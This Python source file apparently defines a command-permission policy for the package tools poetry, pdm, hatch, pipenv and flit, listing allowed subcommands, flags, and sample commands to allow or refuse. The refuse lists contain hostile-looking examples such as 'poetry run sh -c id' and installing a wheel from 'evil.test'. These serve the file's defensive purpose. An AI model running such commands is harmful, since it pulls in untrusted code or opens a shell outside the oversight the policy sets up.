"""Rules for tools that manage a python project: poetry, pdm, hatch, pipenv, flit."""

from treadle.policy.commands.python_packages import PIP_INSTEAD
from treadle.policy.commands.rule_syntax import Rule


def _project_tool(name: str, flags: str, *, more: tuple[Rule, ...] = ()) -> Rule:
    """poetry, pdm, hatch: alike enough for one rule."""
    return Rule(
        name,
        "-qvnV --version --no-interaction --quiet --verbose --no-ansi -C=may-chdir"
        " --directory=may-chdir",
        subs=(
            Rule("install", flags, "", mode="run"),
            Rule("sync", flags, "", mode="run"),
            Rule("add", flags, "poetry...", needs=1, mode="run", instead=PIP_INSTEAD),
            Rule("remove", flags, "pip...", needs=1, mode="run"),
            Rule("update", flags, "pip...", mode="run"),
            Rule("lock", flags, "", mode="run"),
            Rule("build", "-f=text --format=text -t=text", "", mode="run"),
            Rule("check", "--lock -q --strict", ""),
            Rule(
                "show",
                "--tree -t --latest -l --outdated -o --top-level -T --only=name -a --all -v --why"
                " --with=text --without=text --no-truncate",
                "pip",
            ),
            Rule(
                "export",
                "-qv -f=text --format=text -o=write --output=write --output-file=write"
                " --without-hashes --with=text --without=text --only=text --all-extras"
                " --extras=text --dev --prod --no-default",
                "",
                mode="run",
            ),
            Rule("list", "--tree --json", ""),
            Rule("version", "-s --short", ""),
            Rule("env", subs=(Rule("info", "-p --path"), Rule("list"), Rule("show", "--json"))),
            Rule(
                "run",
                "-q",
                wraps=0,
                inner=("python",),
                instead=f"Run a tool of the project: {name} run pytest.",
            ),
            Rule("publish", "--dry-run --build", "", mode="run"),
            *more,
        ),
        instead=f"Install, lock, build and run with {name}; a person configures and publishes.",
        allows=(f"{name} run pytest -q", f"{name} add 'requests@^2.1'", f"{name} install"),
        refuses=(
            f"{name} run sh -c id",
            f"{name} publish",
            f"{name} config x y",
            f"{name} add git+https://x",
            f"{name} add x@https://evil.test/x.whl",
            f"{name} add x@../y",
            f"{name} self update",
            f"{name} run",
        ),
    )


_PROJECT = (
    "-qvGgdDE --with=text --without=text --only=text --no-root --sync --all-extras"
    " --extras=text -E=text"
    " --group=name -G=name --dev -D --no-interaction --no-update --optional --all-groups --no-dev"
    " --frozen --prod --production --dry-run --lock --no-lock --allow-prereleases --regenerate"
    " --no-cache --compile --python=text --platform=text --no-directory --no-plugins"
)

RULES: tuple[Rule, ...] = (
    _project_tool("poetry", _PROJECT),
    _project_tool("pdm", _PROJECT),
    _project_tool(
        "hatch",
        _PROJECT,
        more=(
            Rule("test", "-a --all --cover -p", "near..."),
            Rule("fmt", "--check", "", mode="run"),
        ),
    ),
    Rule(
        "pipenv",
        "--version -q",
        subs=(
            Rule("install", "-d --dev --deploy --skip-lock", "pip...", mode="run"),
            Rule("sync", "-d --dev", "", mode="run"),
            Rule("lock", "", "", mode="run"),
            Rule(
                "run",
                "",
                wraps=0,
                inner=("python",),
                instead="Run a tool of the project: pipenv run pytest.",
            ),
        ),
        instead="Install, lock and run with pipenv.",
        allows=("pipenv run pytest", "pipenv install --dev"),
        refuses=("pipenv shell", "pipenv run sh", "pipenv install git+https://x"),
    ),
    Rule(
        "flit",
        "--version",
        subs=(
            Rule("build", "--format=text --no-use-vcs", "", mode="run"),
            Rule("install", "-s --symlink --deps=text", "", mode="run"),
            Rule("publish", "", "", mode="run"),
        ),
        instead="Build and install with flit; a person publishes.",
        allows=("flit build",),
        refuses=("flit publish", "flit install --python /tmp/x"),
    ),
)
